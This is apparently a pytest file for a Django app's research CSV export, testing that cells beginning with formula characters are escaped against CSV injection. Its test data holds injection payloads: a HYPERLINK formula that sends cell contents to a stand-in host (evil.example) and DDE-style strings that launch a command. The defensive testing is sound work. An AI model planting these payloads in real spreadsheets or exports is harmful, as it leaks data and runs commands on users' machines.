"""The research CSV never hands a spreadsheet a formula (issue 12, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from chains.exports import spreadsheet_safe
from chains.models import Chain
from tests.factories import make_chain

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_starts_are_escaped(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["A harbour at dusk", "", -0.25, 3, None])
def test_everything_else_is_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_a_title_and_caption_written_as_formulas_reach_the_csv_as_text(client):
    chain = make_chain(title='=HYPERLINK("http://evil.example/?"&A1,"Open me")')
    chain.steps.filter(index=0).update(caption="@SUM(1+1)*cmd|' /C calc'!A0")
    Chain.objects.filter(pk=chain.pk).update(status="completed")
    body = b"".join(client.get("/research/steps.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    row = next(row for row in rows if row["chain_slug"] == chain.slug)
    assert row["chain_title"].startswith("'=") and row["caption"].startswith("'@")
    formula_cells = [cell for row in rows for cell in row.values() if cell and cell[0] in "=+@\t\r"]
    assert formula_cells == []
